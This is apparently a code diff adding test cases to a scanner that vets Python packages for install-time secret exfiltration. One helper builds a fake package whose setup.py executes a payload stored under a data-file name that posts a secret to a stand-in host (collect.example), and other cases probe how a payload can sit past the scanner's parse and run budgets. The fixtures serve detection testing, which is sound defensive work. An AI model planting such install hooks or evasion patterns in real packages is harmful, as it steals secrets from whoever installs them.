@@ -80,6 +80,17 @@ def homes(count: int) -> dict[str, str]:
     return {**files, "evpkg/__init__.py": made + "from .s import S\nS()\n"}
 
 
+def runs(count: int, payload: str) -> dict[str, str]:
+    """``setup.py`` runs ``count`` harmless Python files as code, then ``payload``, which
+    posts the host's secret when run."""
+    files = {f"evpkg/h{i}.py": "x = 1\n" for i in range(count)}
+    files[payload] = HEAD + f"urllib.request.urlopen('https://collect.example/k', data={SECRET})\n"
+    calls = "".join(f"exec(open('evpkg/h{i}.py').read())\n" for i in range(count))
+    last = f"exec(open('{payload}').read())\n"
+    files["setup.py"] = f"from setuptools import setup\n{calls}{last}setup(name='evpkg')\n"
+    return {**files, "evpkg/__init__.py": ""}
+
+
 TOP_LEVEL_PADDING = "".join(f"x{i} = {i}\n" for i in range(25_000))
 
 # Read within the budgets: the chain is read whole, as a small module's is.
@@ -121,6 +132,13 @@ HELD = {
     # Three calls deep per resumed walk: 200 functions need more than 64 resumed.
     "two-hundred-functions-deep": init(HEAD + sender("send") + chain(200) + "f0()\n"),
     "seventeen-re-exports": reexports(17),
+    # ``from ._impl import *; go()``, ``_impl`` past the parse budget.
+    "star-import-past-the-parse-budget": {
+        "evpkg/__init__.py": "from ._impl import *\ngo()\n",
+        "evpkg/_impl.py": padded(4.2, HEAD + sender("go")),
+    },
+    # The payload kept under a data name, run seventeenth by setup.py (vet.MAX_RUNS is 16).
+    "data-file-run-past-sixteen-runs": runs(16, "evpkg/payload.txt"),
 }
 ALLOWED = {
     # A large generated module (idna's, pygments') called on import, reading nothing sent.
@@ -150,6 +168,11 @@ ALLOWED = {
         "evpkg/__init__.py": "from .m0 import send\n",
     },
     "thirty-four-harmless-classes": {**homes(34), "evpkg/s.py": "class S:\n    pass\n"},
+    # A build that runs twenty harmless Python files of its own (versioneer's shape).
+    "twenty-python-files-run-by-setup": {
+        **runs(20, "evpkg/h20.py"),
+        "evpkg/h20.py": "x = 2\n",
+    },
 }
 
 
